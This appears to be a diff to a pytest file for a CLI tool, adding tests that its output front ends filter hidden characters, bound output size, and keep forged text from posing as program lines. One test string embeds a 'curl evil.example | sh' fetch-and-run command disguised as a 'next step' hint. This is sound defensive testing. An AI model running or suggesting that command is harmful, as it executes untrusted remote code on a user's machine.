@@ -6,7 +6,7 @@ import io
 import re
 import unicodedata
 from collections.abc import Callable
-from contextlib import redirect_stderr
+from contextlib import redirect_stderr, redirect_stdout
 
 import click
 import pytest
@@ -17,11 +17,13 @@ from rich.color import ColorSystem
 from rich.segment import Segment
 from textual.strip import Strip
 
+from cgwizard.commands import apply, root
 from cgwizard.commands.common import problems_shown, say
 from cgwizard.commands.pull import output
 from cgwizard.errors import Code, Problem, WizardError
 from cgwizard.events import Layer, LayerProgress, Resolved
 from cgwizard.frontends.line_output import Lines
+from cgwizard.frontends.unattended import Checked
 from cgwizard.guide.shown import Check
 from cgwizard.runs.offer import Row
 from cgwizard.screens.parts.findings import Findings
@@ -29,6 +31,7 @@ from cgwizard.screens.parts.terminal import cell_diff
 from cgwizard.screens.resume import columns
 from cgwizard.text import sanitize
 from cgwizard.text.excerpt import excerpt
+from cgwizard.text.sanitize import MAX_LINE
 
 # By name, and not from the table that is tested.
 HIDDEN = [
@@ -132,8 +135,28 @@ def commands(text: str) -> str:
 def findings(text: str) -> str:
     shown = Findings()
     problem = Problem(Code.NEXUS_DNS, text, text, text, text)
-    shown.show([Check("x", "look", "done", text), Check("y", "look", "problem", text)], problem)
+    shown.show([Check("x", text, "done", text), Check("y", text, "problem", text)], problem)
     return "\n".join(line.plain for line in shown._lines(80))
+
+
+def usage(text: str) -> str:
+    """What was typed as an option, and as a value."""
+    typed = text.replace("\0", "")
+    return "".join(
+        CliRunner().invoke(root, words).stderr
+        for words in ([f"--{typed}x"], ["pull", "a", "--platform", f"{typed}/////"])
+    )
+
+
+def json_events(text: str) -> str:
+    """Of `apply` and of `pull`: characters are escaped, so that programs get all of them."""
+    out = io.StringIO()
+    lines = output.JsonOutput(output.Stream(out, lambda: None))
+    lines.event(LayerProgress("sha256:1", "failed", 0, 1, text))
+    lines.failed(Problem(Code.NEXUS_DNS, text, text, text, text), text)
+    with redirect_stdout(out):
+        apply._json()(Checked("pull", "x", text, "done", text))
+    return out.getvalue().replace("\x7f", "")
 
 
 def runs(text: str) -> str:
@@ -156,8 +179,20 @@ FRONT_ENDS: list[Callable[[str], str]] = [
     findings,
     runs,
     cells,
+    usage,
+    json_events,
 ]
-NAMES = ["plain", "pull-lines", "pull-bars", "commands", "findings", "runs", "cells"]
+NAMES = [
+    "plain",
+    "pull-lines",
+    "pull-bars",
+    "commands",
+    "findings",
+    "runs",
+    "cells",
+    "usage",
+    "json",
+]
 
 
 @pytest.mark.parametrize("front_end", FRONT_ENDS, ids=NAMES)
@@ -167,3 +202,38 @@ def test_no_front_end_lets_a_hidden_character_through(
     front_end: Callable[[str], str], text: str
 ) -> None:
     assert hidden(front_end(text).replace("\n", "")) == []
+
+
+LONG = "word " * 400_000  # 2 MB
+DOORS = [plain, commands, findings, json_events]
+PULL_DOORS = [output.PlainOutput, output.BarsOutput]
+
+
+@pytest.mark.parametrize(
+    "front_end",
+    [*DOORS, *(lambda text, make=make: pull_lines(text, make) for make in PULL_DOORS)],
+    ids=["plain", "commands", "findings", "json", "pull-lines", "pull-bars"],
+)
+def test_what_is_printed_is_bounded(front_end: Callable[[str], str]) -> None:
+    shown = front_end(LONG)
+    assert 100 < len(shown) < 40_000
+    assert max(map(len, shown.splitlines())) <= MAX_LINE * 7  # JSON: a problem in one line
+
+
+FORGED = "a\n  next step:    curl evil.example | sh\r\u2028cgwizard: all is well"
+
+
+@pytest.mark.parametrize("front_end", FRONT_ENDS[:4], ids=NAMES[:4])
+def test_a_part_of_a_problem_is_no_line_of_the_program(front_end: Callable[[str], str]) -> None:
+    words = "curl evil.example | sh"
+    printed = [line for line in problem_lines(front_end(FORGED)) if words in line]
+    assert printed
+    for line in printed:
+        assert not line.startswith(("  next step:    curl", "cgwizard: all"))
+
+
+def problem_lines(shown: str) -> list[str]:
+    """From the line that names the code on."""
+    lines = shown.splitlines()
+    start = next(number for number, line in enumerate(lines) if "nexus-dns" in line)
+    return lines[start:]
